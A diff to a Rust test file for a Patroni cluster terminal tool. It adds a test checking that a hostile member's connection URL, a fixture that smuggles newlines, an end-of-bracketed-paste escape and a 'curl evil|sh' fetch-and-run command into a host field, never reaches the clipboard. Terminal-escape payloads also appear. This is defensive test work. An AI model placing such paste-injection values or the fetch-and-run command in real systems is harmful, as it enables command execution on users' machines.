@@ -23,6 +23,9 @@ const CONF: &str = "\x1b[2JCLEAR\u{2028}LS\u{2029}PS\u{200E}LRM\u{7f}DEL";
 const LOG: &str = "LOGMARK \x1b[31mRED\x1b]0;pwned\x07\u{202E}RLO";
 /// The password in the hostile member's URLs.
 const SECRET: &str = "S3CRETPW";
+/// A `conn_url` host that would run a command when pasted into a shell: newlines and the
+/// end-of-bracketed-paste sequence around it.
+const PASTE: &str = "10.9.9.9\n\x1b[201~\ncurl evil|sh\n";
 
 /// Code points that must never come out (patrol itself writes none of them).
 const UNSAFE: &[char] = &[
@@ -80,6 +83,17 @@ fn poison(c: &TestCluster) {
     let key = format!("{}members/{NAME}", c.key_prefix());
     let out = c.etcdctl(&["put", &key, &member.to_string()]);
     assert!(out.status.success(), "etcdctl put member: {out:?}");
+    let clip = serde_json::json!({
+        "conn_url": format!("postgres://{PASTE}:5432/postgres"),
+        "api_url": "http://127.0.0.1:1/patroni",
+        "state": "running",
+        "role": "replica",
+        "version": "4.1.5",
+        "timeline": 1,
+    });
+    let key = format!("{}members/clip", c.key_prefix());
+    let out = c.etcdctl(&["put", &key, &clip.to_string()]);
+    assert!(out.status.success(), "etcdctl put member: {out:?}");
     let mut config: serde_json::Value =
         serde_json::from_str(&c.etcd_get("config").expect("config key")).expect("config json");
     config["x_hostile"] = CONF.into();
@@ -129,13 +143,17 @@ fn hostile_text_never_reaches_the_terminal_or_list_output() {
 
     // its detail view (it sorts after the leader): URLs without credentials
     keys.write_all(b"G\r").expect("G enter");
+    // (the hostile name sorts last)
     let t = screen.wait_for("the detail view", "Member ev?]0;pwned?il");
     assert!(t.contains("http://***@127.0.0.1:1/patroni"), "{t}");
     // the restart dialog shows the request to its api_url
     keys.write_all(b"r").expect("r");
     screen.wait_for("the restart dialog", "restart ·");
     keys.write_all(b"\r").expect("enter");
-    screen.wait_for("the request", "POST http://***@127.0.0.1:1/restart");
+    // to scheme, host and port only; its api_url's userinfo refuses the write, shown redacted
+    let t = screen.wait_for("the request", "POST http://127.0.0.1:1/restart");
+    assert!(t.contains("api_url http://***@127.0.0.1:1/patroni"), "{t}");
+    assert!(t.contains("its writes are refused"), "{t}");
     // one key at a time: ESC followed at once by a key reads as Alt+key
     for _ in 0..3 {
         keys.write_all(b"\x1b").expect("esc");
@@ -221,4 +239,79 @@ fn hostile_text_never_reaches_the_terminal_or_list_output() {
             assert!(rows.iter().any(|m| m["Member"] == NAME), "{text}");
         }
     }
+}
+
+/// The process of a test, killed if the test fails before it exits.
+struct Kill(support::pty::Child);
+
+impl Drop for Kill {
+    fn drop(&mut self) {
+        if !matches!(self.0.try_wait(), Ok(Some(_))) {
+            let _ = self.0.kill();
+        }
+    }
+}
+
+/// `y` on every connection string of the real binary: the bytes it writes to its terminal
+/// hold an OSC 52 sequence only for strings of checked hosts, each decoding to plain text;
+/// the strings with the hostile `conn_url` host are refused with a notice, and no newline,
+/// ESC or end-of-paste sequence from etcd goes to the clipboard.
+#[test]
+fn a_hostile_conn_url_never_reaches_the_clipboard() {
+    use base64::Engine;
+    let c = TestCluster::start(1);
+    poison(&c);
+    let cfg = c.config_path().to_string_lossy().to_string();
+    let (child, mut keys, screen) = spawn(&["-c", &cfg], &[], 160, 45);
+    let mut child = Kill(child);
+    screen.wait_for("the hostile member on screen", "clip");
+    keys.write_all(b"d").expect("d");
+    screen.wait_for("the connection strings", "Connection strings");
+    let mut seen = String::new();
+    // five strings: the leader's, the multi-host one (no replica streams), each member's
+    for _ in 0..5 {
+        keys.write_all(b"y").expect("y");
+        std::thread::sleep(Duration::from_millis(400));
+        seen.push_str(&screen.text());
+        keys.write_all(b"j").expect("j");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    assert!(
+        seen.contains("not copied: the host in clip's conn_url is refused"),
+        "{seen}"
+    );
+    keys.write_all(b"q").expect("q");
+    eventually(Duration::from_secs(10), "patrol exits", || {
+        child.0.try_wait().ok().flatten()
+    });
+
+    let raw = screen.raw();
+    assert!(
+        find(&raw, b"\x1b[201~").is_none(),
+        "an end-of-paste sequence was written"
+    );
+    let mut copied = Vec::new();
+    let mut rest = &raw[..];
+    while let Some(at) = find(rest, b"\x1b]52;c;") {
+        let body = &rest[at + 7..];
+        let end = body
+            .iter()
+            .position(|b| *b == 0x07)
+            .expect("OSC 52 ends with BEL");
+        let text = base64::engine::general_purpose::STANDARD
+            .decode(&body[..end])
+            .expect("base64");
+        copied.push(String::from_utf8(text).expect("UTF-8"));
+        rest = &body[end..];
+    }
+    let leader = format!("host=127.0.0.1 port={}", c.pg_port("pg1"));
+    assert!(copied.contains(&leader), "{copied:?}");
+    for t in &copied {
+        assert!(!t.chars().any(patrol::text::is_unsafe), "{t:?}");
+        assert!(!t.contains("10.9.9.9") && !t.contains("curl"), "{t:?}");
+    }
+    // the leader's string, pg1's own and the hostile-named member's (its host is fine); not
+    // the multi-host one, nor clip's
+    let port1 = "host=127.0.0.1 port=1".to_string();
+    assert_eq!(copied, [leader.clone(), leader, port1], "{copied:?}");
 }
